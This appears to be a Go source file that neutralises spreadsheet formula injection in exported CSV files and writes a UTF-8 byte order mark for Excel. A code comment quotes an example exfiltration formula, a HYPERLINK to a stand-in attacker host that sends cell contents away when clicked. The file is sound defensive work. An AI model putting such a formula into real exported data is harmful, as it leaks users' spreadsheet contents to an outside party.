package sheet

import (
	"encoding/csv"
	"io"
	"strings"
)

// Neutral makes s safe as a cell of a CSV file that a spreadsheet opens: a
// cell starting with =, +, -, @, a tab or a carriage return is read by Excel
// and its kin as a formula (=HYPERLINK("http://evil.example/?"&A1,"详情")
// sends the sheet's cells away when clicked), so such a cell gets a leading
// apostrophe, as OWASP advises; the spreadsheet shows it as the text it is.
// Every CSV weike writes goes through it: the names in it are typed by users.
func Neutral(s string) string {
	if s != "" && strings.ContainsRune("=+-@\t\r", rune(s[0])) {
		return "'" + s
	}
	return s
}

// CSV writes a CSV file for spreadsheets: a UTF-8 byte order mark first
// (without it Excel on Chinese Windows reads UTF-8 as GBK and shows
// mojibake), CRLF line ends, every cell neutralised.
type CSV struct {
	w *csv.Writer
}

// NewCSV starts a CSV file on w.
func NewCSV(w io.Writer) (*CSV, error) {
	if _, err := io.WriteString(w, "\uFEFF"); err != nil {
		return nil, err
	}
	cw := csv.NewWriter(w)
	cw.UseCRLF = true
	return &CSV{w: cw}, nil
}

// Write writes a row.
func (c *CSV) Write(cells []string) error {
	row := make([]string, len(cells))
	for i, s := range cells {
		row[i] = Neutral(s)
	}
	return c.w.Write(row)
}

// Flush writes what is buffered and reports any error of the writes.
func (c *CSV) Flush() error {
	c.w.Flush()
	return c.w.Error()
}
